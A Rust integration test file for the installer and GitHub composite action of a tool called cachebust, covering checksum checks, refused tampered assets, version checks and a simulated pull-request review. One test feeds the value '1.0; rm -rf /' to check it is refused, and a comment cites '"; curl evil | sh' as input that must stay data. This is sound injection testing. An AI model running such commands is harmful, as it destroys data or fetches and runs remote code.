//! Installing without Rust: the composite action's installer (`action/install.sh`) and
//! `action.yml` itself, against a local HTTP server standing in for a release's assets — this
//! build's binary (stripped) packed by `tools/release-archive.sh` as the release packs it, and a
//! `SHA256SUMS` as the release writes it. Each run has fresh directories and `PATH=/usr/bin:/bin`
//! (no cargo, no rustc): the binary installs and runs in seconds and the tool cache is reused; an
//! archive whose SHA-256 is not the listed one, a missing or malformed checksum, a missing asset,
//! a binary of another version and a runner with no release binary are refused with the reason
//! and nothing installed. The composite action then runs step by step as the runner runs it
//! (inputs reach the scripts through `env:` only) and reviews a pull request on the fake GitHub.
//! `tools/release-check.sh` refuses a tag the version files disagree with.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::action::{event_file, pr_repo, pull_files};
use crate::cli::root;
use crate::support::github::fake;

const VERSION: &str = env!("CARGO_PKG_VERSION");
/// No cargo, no rustc: what a fresh runner or machine has.
const NO_RUST_PATH: &str = "/usr/bin:/bin";

/// The release target action/install.sh picks on this machine.
fn host_target() -> &'static str {
    match (std::env::consts::OS, std::env::consts::ARCH) {
        ("linux", "x86_64") => "x86_64-unknown-linux-musl",
        ("linux", "aarch64") => "aarch64-unknown-linux-musl",
        ("macos", "x86_64") => "x86_64-apple-darwin",
        ("macos", "aarch64") => "aarch64-apple-darwin",
        other => panic!("no release target for {other:?}"),
    }
}

fn asset_name(version: &str) -> String {
    format!("cachebust-{version}-{}.tar.gz", host_target())
}

fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// This build's binary packed as the release packs it (once per test run: stripping and packing
/// take seconds), as bytes.
fn release_archive() -> &'static [u8] {
    static ARCHIVE: OnceLock<Vec<u8>> = OnceLock::new();
    ARCHIVE.get_or_init(|| {
        let tmp = tempfile::tempdir().unwrap();
        let bin = tmp.path().join("cachebust");
        // a release binary carries no debug info; the debug build's 270 MB would only slow the test
        let stripped = Command::new("strip")
            .arg("-o")
            .arg(&bin)
            .arg(env!("CARGO_BIN_EXE_cachebust"))
            .status()
            .is_ok_and(|s| s.success());
        if !stripped {
            std::fs::copy(env!("CARGO_BIN_EXE_cachebust"), &bin).unwrap();
        }
        let out = tmp.path().join("dist");
        let o = Command::new("bash")
            .arg(root().join("tools/release-archive.sh"))
            .arg(&bin)
            .arg(VERSION)
            .arg(host_target())
            .arg(&out)
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let path = String::from_utf8_lossy(&o.stdout).trim().to_string();
        assert_eq!(
            Path::new(&path).file_name().unwrap().to_string_lossy(),
            asset_name(VERSION)
        );
        std::fs::read(path).unwrap()
    })
}

/// A release's assets behind a local HTTP server: `GET <base>/<name>` answers the file `name`
/// of `dir` or 404; every path asked for is recorded.
struct Release {
    _tmp: tempfile::TempDir,
    dir: PathBuf,
    url: String,
    hits: Arc<Mutex<Vec<String>>>,
}

impl Release {
    /// The assets as the release publishes them: the archive and SHA256SUMS listing it.
    fn published() -> Release {
        let r = Release::empty();
        let archive = release_archive();
        r.put(&asset_name(VERSION), archive);
        r.put(
            "SHA256SUMS",
            format!(
                "{}  {}\n{}  cachebust-{VERSION}-some-other-target.tar.gz\n",
                sha256_hex(archive),
                asset_name(VERSION),
                "0".repeat(64)
            )
            .as_bytes(),
        );
        r
    }

    fn empty() -> Release {
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path().join("assets");
        std::fs::create_dir_all(&dir).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits: Arc<Mutex<Vec<String>>> = Arc::default();
        let (files, seen) = (dir.clone(), hits.clone());
        let prefix = format!("/cachebust/cachebust/releases/download/v{VERSION}/");
        let url = format!("http://127.0.0.1:{port}{}", prefix.trim_end_matches('/'));
        // lives as long as the test binary; one connection at a time is all curl needs
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut s) = stream else { continue };
                let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && head.len() < 16 * 1024 {
                    match s.read(&mut byte) {
                        Ok(1) => head.push(byte[0]),
                        _ => break,
                    }
                }
                let head = String::from_utf8_lossy(&head);
                let path = head.split_whitespace().nth(1).unwrap_or("").to_string();
                seen.lock().unwrap().push(path.clone());
                // the release's assets, and the installer where raw.githubusercontent.com
                // serves it from the tag
                let file = if path == format!("/cachebust/cachebust/v{VERSION}/action/install.sh") {
                    Some(root().join("action/install.sh"))
                } else {
                    path.strip_prefix(&prefix)
                        .filter(|n| !n.contains('/') && !n.is_empty())
                        .map(|n| files.join(n))
                };
                let answer = match file.and_then(|f| std::fs::read(f).ok()) {
                    Some(body) => {
                        let mut a = format!(
                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n",
                            body.len()
                        )
                        .into_bytes();
                        a.extend_from_slice(&body);
                        a
                    }
                    None => b"HTTP/1.1 404 Not Found\r\nContent-Length: 9\r\nConnection: close\r\n\r\nNot Found"
                        .to_vec(),
                };
                let _ = s.write_all(&answer);
            }
        });
        Release {
            url,
            _tmp: tmp,
            dir,
            hits,
        }
    }

    /// The server's address (`http://127.0.0.1:PORT`).
    fn origin(&self) -> &str {
        let after = self.url.find("://").unwrap() + 3;
        let end = self.url[after..].find('/').unwrap() + after;
        &self.url[..end]
    }

    fn put(&self, name: &str, bytes: &[u8]) {
        std::fs::write(self.dir.join(name), bytes).unwrap();
    }

    fn hits(&self) -> Vec<String> {
        self.hits.lock().unwrap().clone()
    }
}

/// A fresh runner: tool cache, scratch space, home, the files behind GITHUB_PATH and
/// GITHUB_OUTPUT, and a working directory, all empty.
struct Runner {
    tmp: tempfile::TempDir,
}

impl Runner {
    fn new() -> Runner {
        let tmp = tempfile::tempdir().unwrap();
        for d in ["toolcache", "temp", "home", "work"] {
            std::fs::create_dir_all(tmp.path().join(d)).unwrap();
        }
        Runner { tmp }
    }

    fn path(&self, p: &str) -> PathBuf {
        self.tmp.path().join(p)
    }

    /// The environment every step of a job gets (no GITHUB_ACTIONS: plain messages).
    fn env(&self) -> Vec<(String, String)> {
        [
            ("PATH", NO_RUST_PATH.to_string()),
            ("HOME", self.path("home").display().to_string()),
            (
                "RUNNER_TOOL_CACHE",
                self.path("toolcache").display().to_string(),
            ),
            ("RUNNER_TEMP", self.path("temp").display().to_string()),
            (
                "GITHUB_PATH",
                self.path("github_path").display().to_string(),
            ),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v))
        .collect()
    }

    /// `bash action/install.sh` with this runner's environment plus `extra`.
    fn install(&self, extra: &[(&str, &str)]) -> Output {
        let mut c = Command::new("bash");
        c.arg(root().join("action/install.sh"))
            .current_dir(self.path("work"))
            .env_clear()
            .envs(self.env())
            .env("GITHUB_OUTPUT", self.path("install_output"));
        for (k, v) in extra {
            c.env(k, v);
        }
        c.output().unwrap()
    }

    fn read(&self, p: &str) -> String {
        std::fs::read_to_string(self.path(p)).unwrap_or_default()
    }

    /// Every file under the tool cache.
    fn cached_files(&self) -> Vec<PathBuf> {
        fn walk(d: &Path, out: &mut Vec<PathBuf>) {
            for e in std::fs::read_dir(d).into_iter().flatten().flatten() {
                if e.file_type().unwrap().is_dir() {
                    walk(&e.path(), out);
                } else {
                    out.push(e.path());
                }
            }
        }
        let mut out = Vec::new();
        walk(&self.path("toolcache"), &mut out);
        out
    }
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

#[test]
fn installs_the_release_binary_and_runs_it_with_no_rust_on_path() {
    let release = Release::published();
    let runner = Runner::new();
    // the premise: nothing on this PATH compiles Rust
    let rust = Command::new("bash")
        .args(["-c", "command -v cargo || command -v rustc"])
        .env_clear()
        .env("PATH", NO_RUST_PATH)
        .output()
        .unwrap();
    assert!(!rust.status.success(), "{}", text(&rust));

    let started = Instant::now();
    let o = runner.install(&[
        ("CACHEBUST_VERSION", VERSION),
        ("CACHEBUST_DOWNLOAD_URL", &release.url),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let arch = if host_target().starts_with("aarch64") {
        "ARM64"
    } else {
        "X64"
    };
    let dir = runner.path(&format!("toolcache/cachebust/{VERSION}/{arch}"));
    let bin = dir.join("cachebust");
    assert!(bin.is_file(), "{}", text(&o));
    // `<arch>.complete` beside the directory, as actions/tool-cache marks a finished entry
    assert!(dir.with_extension("complete").is_file());
    assert!(dir.join("LICENSE-MIT").is_file() && dir.join("LICENSE-APACHE").is_file());
    // later steps find it on PATH; the action's next step finds it by its output
    assert_eq!(runner.read("github_path").trim(), dir.display().to_string());
    assert!(
        runner
            .read("install_output")
            .lines()
            .any(|l| l == format!("path={}", bin.display())),
        "{}",
        runner.read("install_output")
    );
    // the main job, from a fresh directory, with the PATH a later step gets
    let path = format!("{}:{NO_RUST_PATH}", dir.display());
    let version = Command::new("cachebust")
        .arg("--version")
        .current_dir(runner.path("work"))
        .env_clear()
        .env("PATH", &path)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&version.stdout).trim(),
        format!("cachebust {VERSION}")
    );
    let work = runner.path("work");
    crate::cli::copy_tree(&root().join("examples/head/api"), &work);
    let check = Command::new("cachebust")
        .args(["check", "--root", ".", "Dockerfile"])
        .current_dir(&work)
        .env_clear()
        .env("PATH", &path)
        .env("HOME", runner.path("home"))
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&check.stdout).contains("CB001"),
        "{}",
        text(&check)
    );
    let took = started.elapsed();
    assert!(
        took < Duration::from_secs(30),
        "install and first run took {took:?}"
    );
    assert_eq!(
        release.hits(),
        vec![
            format!("/cachebust/cachebust/releases/download/v{VERSION}/SHA256SUMS"),
            format!(
                "/cachebust/cachebust/releases/download/v{VERSION}/{}",
                asset_name(VERSION)
            ),
        ]
    );

    // a second job on the same (self-hosted) runner: from the tool cache, nothing downloaded
    let again = runner.install(&[
        ("CACHEBUST_VERSION", &format!("v{VERSION}")),
        ("CACHEBUST_DOWNLOAD_URL", &release.url),
    ]);
    assert_eq!(again.status.code(), Some(0), "{}", text(&again));
    assert!(
        text(&again).contains("in the tool cache"),
        "{}",
        text(&again)
    );
    assert_eq!(release.hits().len(), 2, "{:?}", release.hits());
}

/// The README's install line on a machine with no Rust (the raw.githubusercontent.com and
/// release URLs served locally): the binary in ~/.local/bin, running, within 30 s.
#[test]
fn the_readme_install_line_installs_in_seconds_with_no_rust() {
    let readme = std::fs::read_to_string(root().join("README.md")).unwrap();
    let line = readme
        .lines()
        .find(|l| {
            l.starts_with("curl -fsSL https://raw.githubusercontent.com/cachebust/cachebust/")
        })
        .expect("the README's install line");
    assert!(
        line.contains(&format!("/v{VERSION}/action/install.sh"))
            && line.contains(&format!("CACHEBUST_VERSION={VERSION} ")),
        "the README installs another version than {VERSION}: {line}"
    );
    let release = Release::published();
    let runner = Runner::new();
    let line = line.replace("https://raw.githubusercontent.com", release.origin());
    let home = runner.path("home");
    let started = Instant::now();
    let o = Command::new("bash")
        .args(["-c", &line])
        .current_dir(runner.path("work"))
        .env_clear()
        .env("PATH", NO_RUST_PATH)
        .env("HOME", &home)
        .env("CACHEBUST_DOWNLOAD_URL", &release.url)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let bin = home.join(".local/bin/cachebust");
    let work = runner.path("work");
    crate::cli::copy_tree(&root().join("examples/head/api"), &work);
    let check = Command::new(&bin)
        .args(["check", "--root", ".", "Dockerfile"])
        .current_dir(&work)
        .env_clear()
        .env("PATH", NO_RUST_PATH)
        .env("HOME", &home)
        .output()
        .unwrap();
    let took = started.elapsed();
    assert!(
        String::from_utf8_lossy(&check.stdout).contains("CB001"),
        "{}",
        text(&check)
    );
    assert!(
        took < Duration::from_secs(30),
        "install and first run took {took:?}"
    );
    // outside Actions the download is kept in ~/.cache for the next install
    assert!(
        home.join(format!(".cache/cachebust-tools/cachebust/{VERSION}"))
            .is_dir()
    );
}

/// What a release (or whatever answers in its place) can get wrong, and the reason the
/// installer gives: each refused, nothing installed, nothing added to PATH.
#[test]
fn a_wrong_checksum_or_asset_is_refused_and_nothing_installed() {
    let archive = release_archive();
    let good = sha256_hex(archive);
    let asset = asset_name(VERSION);
    let mut tampered = archive.to_vec();
    // gzip ignores what follows its last member with a warning: unpacked, this would install
    tampered.extend_from_slice(b"\0\0\0\0");
    let tampered_sum = sha256_hex(&tampered);
    type Setup = Box<dyn Fn(&Release)>;
    let cases: Vec<(&str, Setup, Vec<String>)> = vec![
        (
            "the archive is not the one SHA256SUMS lists",
            Box::new({
                let (asset, good, tampered) = (asset.clone(), good.clone(), tampered.clone());
                move |r: &Release| {
                    r.put(&asset, &tampered);
                    r.put("SHA256SUMS", format!("{good}  {asset}\n").as_bytes());
                }
            }),
            vec![
                format!("checksum mismatch for {asset}"),
                format!("SHA256SUMS lists {good}"),
                format!("the download is {tampered_sum}"),
                "nothing was installed".into(),
            ],
        ),
        (
            "SHA256SUMS does not list the archive",
            Box::new({
                let (asset, good) = (asset.clone(), good.clone());
                move |r: &Release| {
                    r.put(&asset, archive);
                    r.put(
                        "SHA256SUMS",
                        format!("{good}  {asset}.old\n{good}  x-{asset}\n").as_bytes(),
                    );
                }
            }),
            vec![format!(
                "SHA256SUMS of {VERSION} lists no checksum for {asset}"
            )],
        ),
        (
            "the listed checksum is not a SHA-256",
            Box::new({
                let asset = asset.clone();
                let short = good[..40].to_string();
                move |r: &Release| {
                    r.put(&asset, archive);
                    r.put("SHA256SUMS", format!("{short}  {asset}\n").as_bytes());
                }
            }),
            vec![format!("malformed checksum for {asset}")],
        ),
        (
            "no SHA256SUMS",
            Box::new({
                let asset = asset.clone();
                move |r: &Release| r.put(&asset, archive)
            }),
            vec!["could not download {url}/SHA256SUMS".to_string()],
        ),
        (
            "no archive for this target",
            Box::new({
                let (asset, good) = (asset.clone(), sha256_hex(archive));
                move |r: &Release| r.put("SHA256SUMS", format!("{good}  {asset}\n").as_bytes())
            }),
            vec![format!("could not download {{url}}/{asset}")],
        ),
    ];
    for (what, setup, said) in cases {
        let release = Release::empty();
        setup(&release);
        let runner = Runner::new();
        let o = runner.install(&[
            ("CACHEBUST_VERSION", VERSION),
            ("CACHEBUST_DOWNLOAD_URL", &release.url),
            ("GITHUB_ACTIONS", "true"),
        ]);
        let t = text(&o);
        assert_eq!(o.status.code(), Some(1), "{what}: {t}");
        for s in said {
            let s = s.replace("{url}", &release.url);
            assert!(t.contains(&s), "{what}: {s:?} not in\n{t}");
        }
        // the reason is an error annotation on the run's page too
        assert!(
            String::from_utf8_lossy(&o.stdout).contains("::error title=cachebust install::"),
            "{what}: {t}"
        );
        assert_eq!(runner.cached_files(), Vec::<PathBuf>::new(), "{what}");
        assert_eq!(runner.read("github_path"), "", "{what}");
        assert_eq!(runner.read("install_output"), "", "{what}");
    }
}

/// A binary that says another version than the one asked for (a mislabelled asset whose
/// checksum is listed) is not installed either; nor is anything on a runner with no release
/// binary, or for a version that is not one.
#[test]
fn a_binary_of_another_version_or_an_unknown_runner_is_refused() {
    let archive = release_archive();
    let other = "9.9.9";
    let release = Release::empty();
    // this version's bytes under 9.9.9's names (and listed in its SHA256SUMS)
    let dir9 = release.dir.clone();
    std::fs::write(dir9.join(asset_name(other)), archive).unwrap();
    std::fs::write(
        dir9.join("SHA256SUMS"),
        format!("{}  {}\n", sha256_hex(archive), asset_name(other)),
    )
    .unwrap();
    let runner = Runner::new();
    let o = runner.install(&[
        ("CACHEBUST_VERSION", other),
        ("CACHEBUST_DOWNLOAD_URL", &release.url),
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        text(&o).contains(&format!(
            "the downloaded cachebust says 'cachebust {VERSION}', not 'cachebust {other}'"
        )),
        "{}",
        text(&o)
    );
    assert_eq!(runner.cached_files(), Vec::<PathBuf>::new());
    assert_eq!(runner.read("github_path"), "");

    for (env, said) in [
        (
            vec![("RUNNER_OS", "Linux"), ("RUNNER_ARCH", "ARM")],
            "no release binary for Linux/ARM",
        ),
        (
            vec![("RUNNER_OS", "FreeBSD"), ("RUNNER_ARCH", "X64")],
            "no release binary for FreeBSD/X64",
        ),
        (
            vec![("CACHEBUST_VERSION", "")],
            "CACHEBUST_VERSION is not set",
        ),
        (
            vec![("CACHEBUST_VERSION", "1.0; rm -rf /")],
            "is not a version",
        ),
    ] {
        let runner = Runner::new();
        let mut all = vec![
            ("CACHEBUST_VERSION", VERSION),
            ("CACHEBUST_DOWNLOAD_URL", release.url.as_str()),
        ];
        all.extend(env);
        let o = runner.install(&all);
        assert_eq!(o.status.code(), Some(1), "{said}: {}", text(&o));
        assert!(text(&o).contains(said), "{said}: {}", text(&o));
        assert_eq!(runner.cached_files(), Vec::<PathBuf>::new());
    }
}

/// What the runner knows when it evaluates `${{ … }}`: the step's `with:`, the token, the path
/// the action was checked out to, earlier steps' outputs.
struct Context<'a> {
    with: &'a BTreeMap<String, String>,
    token: &'a str,
    action_path: &'a Path,
    steps: BTreeMap<String, BTreeMap<String, String>>,
}

/// `${{ … }}` in action.yml's env: the inputs (given, else their defaults), the action's path,
/// the token, earlier steps' outputs. Anything else fails the test: the runner would evaluate
/// it and this stand-in cannot.
fn evaluate(v: &str, action: &Value, cx: &Context<'_>) -> String {
    let re = regex::Regex::new(r"\$\{\{\s*([^}]*?)\s*\}\}").unwrap();
    re.replace_all(v, |c: &regex::Captures<'_>| {
        let e = &c[1];
        if let Some(name) = e.strip_prefix("inputs.") {
            let spec = &action["inputs"][name];
            assert!(
                spec.is_object(),
                "action.yml uses the undeclared input {name}"
            );
            match cx.with.get(name) {
                Some(v) => v.clone(),
                None => evaluate(spec["default"].as_str().unwrap_or(""), action, cx),
            }
        } else if e == "github.action_path" {
            cx.action_path.display().to_string()
        } else if e == "github.token" {
            cx.token.to_string()
        } else if let Some(rest) = e.strip_prefix("steps.") {
            let (id, out) = rest.split_once(".outputs.").expect(e);
            cx.steps
                .get(id)
                .and_then(|o| o.get(out))
                .cloned()
                .unwrap_or_default()
        } else {
            panic!("action.yml: this test does not model ${{{{ {e} }}}}")
        }
    })
    .into_owned()
}

/// `name=value` and `name<<DELIM … DELIM` lines of a GITHUB_OUTPUT file.
fn read_outputs(t: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut lines = t.lines();
    while let Some(l) = lines.next() {
        if let Some((k, delim)) = l.split_once("<<") {
            let mut v = Vec::new();
            for x in lines.by_ref() {
                if x == delim {
                    break;
                }
                v.push(x);
            }
            out.insert(k.to_string(), v.join("\n"));
        } else if let Some((k, v)) = l.split_once('=') {
            out.insert(k.to_string(), v.to_string());
        }
    }
    out
}

struct Composite {
    status: Option<i32>,
    output: String,
    outputs: BTreeMap<String, String>,
    took: Duration,
}

/// action.yml's steps run as the runner runs a composite action: each `run:` by
/// `bash --noprofile --norc -eo pipefail` with the job's environment and its own `env:`, a
/// GITHUB_OUTPUT file per step, GITHUB_PATH entries before later steps' PATH; the action's
/// outputs evaluated at the end. `action_path`: where the runner checked the action out.
fn run_composite(
    runner: &Runner,
    action_path: &Path,
    with: &BTreeMap<String, String>,
    job_env: &[(&str, String)],
    token: &str,
) -> Composite {
    let action: Value =
        serde_saphyr::from_str(&std::fs::read_to_string(action_path.join("action.yml")).unwrap())
            .unwrap();
    let started = Instant::now();
    let mut cx = Context {
        with,
        token,
        action_path,
        steps: BTreeMap::new(),
    };
    let mut output = String::new();
    let mut status = Some(0);
    for (i, step) in action["runs"]["steps"]
        .as_array()
        .unwrap()
        .iter()
        .enumerate()
    {
        assert_eq!(step["shell"], "bash", "step {i}");
        let script = step["run"].as_str().expect("a run step");
        let file = runner.path(&format!("temp/step-{i}.sh"));
        std::fs::write(&file, script).unwrap();
        let out_file = runner.path(&format!("temp/output-{i}"));
        let mut c = Command::new("bash");
        c.args(["--noprofile", "--norc", "-eo", "pipefail"])
            .arg(&file)
            .current_dir(runner.path("work"))
            .env_clear()
            .envs(runner.env())
            .env("GITHUB_OUTPUT", &out_file);
        for (k, v) in job_env {
            c.env(k, v);
        }
        let added = runner.read("github_path");
        let path: Vec<&str> = added.lines().rev().chain([NO_RUST_PATH]).collect();
        c.env("PATH", path.join(":"));
        if let Some(env) = step["env"].as_object() {
            for (k, v) in env {
                let v = v.as_str().map(str::to_string).unwrap_or(v.to_string());
                c.env(k, evaluate(&v, &action, &cx));
            }
        }
        let o = c.output().unwrap();
        output.push_str(&text(&o));
        let outs = read_outputs(&std::fs::read_to_string(&out_file).unwrap_or_default());
        if let Some(id) = step["id"].as_str() {
            cx.steps.insert(id.to_string(), outs);
        }
        if !o.status.success() {
            status = o.status.code();
            break;
        }
    }
    let outputs = action["outputs"]
        .as_object()
        .unwrap()
        .iter()
        .map(|(k, v)| {
            (
                k.clone(),
                evaluate(v["value"].as_str().unwrap(), &action, &cx),
            )
        })
        .collect();
    Composite {
        status,
        output,
        outputs,
        took: started.elapsed(),
    }
}

/// action.yml is a composite action whose scripts expand no `${{ }}` (an input holding
/// `"; curl evil | sh` stays data), whose every input reaches a script as an environment
/// variable, and whose binary step passes each input the binary reads as `INPUT_<NAME>`; it
/// installs the release this crate is.
#[test]
fn action_yml_passes_inputs_through_the_environment_only() {
    let action: Value =
        serde_saphyr::from_str(&std::fs::read_to_string(root().join("action.yml")).unwrap())
            .unwrap();
    assert_eq!(action["runs"]["using"], "composite");
    assert_eq!(action["inputs"]["version"]["default"], VERSION);
    let steps = action["runs"]["steps"].as_array().unwrap();
    let mut passed = BTreeMap::new();
    for s in steps {
        let run = s["run"].as_str().unwrap();
        assert!(
            !run.contains("${{"),
            "an expression expanded into a script: {run}"
        );
        for (k, v) in s["env"].as_object().into_iter().flatten() {
            let v = v.as_str().unwrap_or("");
            if let Some(name) = v
                .strip_prefix("${{ inputs.")
                .and_then(|x| x.strip_suffix(" }}"))
            {
                passed.insert(name.to_string(), k.clone());
            }
        }
    }
    let source = std::fs::read_to_string(root().join("src/action/mod.rs")).unwrap();
    for name in action["inputs"].as_object().unwrap().keys() {
        let var = passed
            .get(name)
            .unwrap_or_else(|| panic!("input {name} reaches no step"));
        if source.contains(&format!("input(\"{name}\")")) {
            assert_eq!(
                *var,
                format!("INPUT_{}", name.to_uppercase()),
                "input {name}"
            );
        } else {
            assert!(var.starts_with("CACHEBUST_"), "input {name} as {var}");
        }
    }
    // and every input the binary reads is an input of the action
    let re = regex::Regex::new(r#"input\("([a-z_]+)"\)"#).unwrap();
    for c in re.captures_iter(&source) {
        assert!(
            action["inputs"][&c[1]].is_object(),
            "the binary reads input {} that action.yml does not declare",
            &c[1]
        );
    }
}

/// The composite action from a fresh runner with no Rust, checked out where the runner puts
/// `uses: cachebust/cachebust@v<version>`: installs the release binary from the (local) release
/// and reviews the example pull request on the fake GitHub within 30 s, its rule codes linked to
/// that release's pages; the action's outputs are the binary's.
#[test]
fn the_composite_action_installs_and_reviews_a_pull_request() {
    let Some(f) = fake() else { return };
    let release = Release::published();
    let runner = Runner::new();
    let r = pr_repo();
    f.state().files = pull_files(&r.dir, &r.base, &r.head);
    let ev = event_file(&r.dir, 7, &r.base, &r.head);
    let with: BTreeMap<String, String> = [("download_url".to_string(), release.url.clone())].into();
    let token = "ghs_test_token_do_not_print";
    // where the runner checks out `uses: cachebust/cachebust@v<version>`
    let actions = runner.path("_actions/cachebust/cachebust");
    std::fs::create_dir_all(&actions).unwrap();
    let action_path = actions.join(format!("v{VERSION}"));
    std::os::unix::fs::symlink(root(), &action_path).unwrap();
    let job_env = [
        ("GITHUB_EVENT_NAME", "pull_request".to_string()),
        ("GITHUB_EVENT_PATH", ev.display().to_string()),
        ("GITHUB_REPOSITORY", "octo/shop".to_string()),
        ("GITHUB_API_URL", f.url.clone()),
        ("GITHUB_SERVER_URL", "https://github.com".to_string()),
        ("GITHUB_RUN_ID", "77".to_string()),
        ("GITHUB_WORKSPACE", r.dir.display().to_string()),
        (
            "GITHUB_STEP_SUMMARY",
            runner.path("summary.md").display().to_string(),
        ),
    ];
    let run = run_composite(&runner, &action_path, &with, &job_env, token);
    assert_eq!(run.status, Some(0), "{}", run.output);
    assert!(run.took < Duration::from_secs(30), "took {:?}", run.took);
    assert!(!run.output.contains(token), "the token was printed");
    let rebuilt: u64 = run.outputs["rebuilt_steps"].parse().expect("rebuilt_steps");
    assert!(rebuilt > 0, "{:?}", run.outputs);
    assert!(
        run.outputs["estimated_rebuild_seconds"]
            .parse::<f64>()
            .is_ok()
    );
    assert!(
        Path::new(&run.outputs["report"]).is_file(),
        "{:?}",
        run.outputs
    );
    assert!(
        run.outputs["path"].ends_with("/cachebust"),
        "{:?}",
        run.outputs
    );
    assert!(runner.read("summary.md").contains("cachebust"));
    let s = f.state();
    let reviews = s
        .mutations()
        .into_iter()
        .filter(|q| q.method == "POST" && q.path.ends_with("/reviews"))
        .count();
    assert_eq!(reviews, 1, "one review");
    // rule codes link to the pages of the release the action is (the runner leaves
    // GITHUB_ACTION_REPOSITORY and GITHUB_ACTION_REF empty in composite steps)
    let pages = format!("(https://github.com/cachebust/cachebust/blob/v{VERSION}/docs/rules/CB00");
    let posted: String = s.mutations().iter().map(|q| q.body.to_string()).collect();
    assert!(posted.contains(&pages), "no rule link to {pages}: {posted}");
    assert!(s.violations().is_empty(), "{:?}", s.violations());
}

/// The release's first step refuses a tag the version files disagree with.
#[test]
fn the_release_refuses_a_tag_the_version_files_disagree_with() {
    let check = |tag: &str| {
        Command::new("bash")
            .arg(root().join("tools/release-check.sh"))
            .arg(tag)
            .output()
            .unwrap()
    };
    let ok = check(&format!("v{VERSION}"));
    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok));
    assert_eq!(
        String::from_utf8_lossy(&ok.stdout).trim(),
        format!("version={VERSION}")
    );
    for (tag, said) in [
        ("v99.0.0", "Cargo.toml is at"),
        (VERSION, "the tag is not vX.Y.Z"),
        ("v1.0", "the tag is not vX.Y.Z"),
    ] {
        let o = check(tag);
        assert_eq!(o.status.code(), Some(1), "{tag}: {}", text(&o));
        assert!(text(&o).contains(said), "{tag}: {}", text(&o));
    }
}

/// The example workflow's build-log step, run as the runner runs it (`bash -eo pipefail`)
/// against a stand-in `gh`: a repository with no build.yml, one with no successful run yet, and
/// a run without the artifact each leave a notice and no log (the Action then estimates step
/// times, "missing files are skipped"), and the step goes on; a run with the artifact downloads
/// it, without a notice.
#[test]
fn the_example_workflow_runs_on_a_repository_with_no_build_logs() {
    let example: Value = serde_saphyr::from_str(
        &std::fs::read_to_string(root().join("docs/action-example.yml")).unwrap(),
    )
    .unwrap();
    let job = example["jobs"]
        .as_object()
        .unwrap()
        .values()
        .next()
        .unwrap();
    let step = job["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["run"].as_str().is_some_and(|r| r.contains("gh run list")))
        .expect("the build-log step");
    let script = step["run"].as_str().unwrap();
    let cachebust = job["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == "cachebust")
        .unwrap();
    let timings = cachebust["with"]["timings"].as_str().unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let bin = tmp.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    // what gh says in each case (gh 2.x's messages)
    std::fs::write(
        bin.join("gh"),
        format!(
            r##"#!/bin/sh
case "$1 $2" in
  "run list")
    if [ -n "$NO_WORKFLOW" ]; then echo "could not find any workflows named build.yml" >&2; exit 1; fi
    printf '%s\n' "$RUN_ID" ;;
  "run download")
    if [ -n "$NO_ARTIFACT" ]; then echo "no valid artifacts found to download" >&2; exit 1; fi
    echo "#1 [internal] load build definition from Dockerfile" > {timings} ;;
  *) exit 2 ;;
esac
"##
        ),
    )
    .unwrap();
    Command::new("chmod")
        .arg("+x")
        .arg(bin.join("gh"))
        .status()
        .unwrap();
    let file = tmp.path().join("step.sh");
    std::fs::write(&file, script).unwrap();
    for (case, env, notice, log) in [
        ("no build.yml", vec![("NO_WORKFLOW", "1")], true, false),
        ("no successful run yet", vec![("RUN_ID", "")], true, false),
        (
            "a run without the artifact",
            vec![("RUN_ID", "123"), ("NO_ARTIFACT", "1")],
            true,
            false,
        ),
        (
            "a run with the artifact",
            vec![("RUN_ID", "123")],
            false,
            true,
        ),
    ] {
        let work = tempfile::tempdir().unwrap();
        let o = Command::new("bash")
            .args(["--noprofile", "--norc", "-eo", "pipefail"])
            .arg(&file)
            .current_dir(work.path())
            .env_clear()
            .env("PATH", format!("{}:{NO_RUST_PATH}", bin.display()))
            .env("GH_TOKEN", "ghs_x")
            .envs(env)
            .output()
            .unwrap();
        let t = text(&o);
        assert_eq!(o.status.code(), Some(0), "{case}: {t}");
        assert_eq!(t.contains("::notice::"), notice, "{case}: {t}");
        assert_eq!(work.path().join(timings).is_file(), log, "{case}");
    }
}
